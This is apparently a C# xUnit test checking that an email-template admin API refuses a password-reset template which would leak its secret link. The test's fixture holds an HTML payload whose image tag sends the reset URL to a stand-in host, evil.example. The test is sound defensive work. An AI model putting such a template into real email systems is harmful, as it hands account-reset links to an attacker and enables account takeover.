using System.Net;
using System.Net.Http.Json;
using SalesMind.Notifier.Rendering;

namespace SalesMind.Notifier.Tests;

[Collection(NotifierCollection.Name)]
public sealed class SecretLinkPlacementApiTests(NotifierApp app)
{
    [Fact]
    public async Task A_reset_template_that_leaks_its_link_to_an_image_server_is_refused_and_not_saved()
    {
        var client = app.AdminClient();
        var before = await client.GetStringAsync("/api/admin/templates/password-reset/versions?locale=en");

        var answer = await client.PostAsJsonAsync("/api/admin/templates/password-reset/versions", new
        {
            locale = "en",
            subject = "Reset your password",
            html = """<p>Hi @Model.Username</p><img src="https://evil.example/p?u=@Model.ResetUrl"><a href="@Model.ResetUrl">reset</a>""",
            text = "@Model.ResetUrl",
            activate = true,
        });

        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
        Assert.Contains("secret account link", await answer.Content.ReadAsStringAsync());
        Assert.Equal(before, await client.GetStringAsync("/api/admin/templates/password-reset/versions?locale=en"));
    }
}
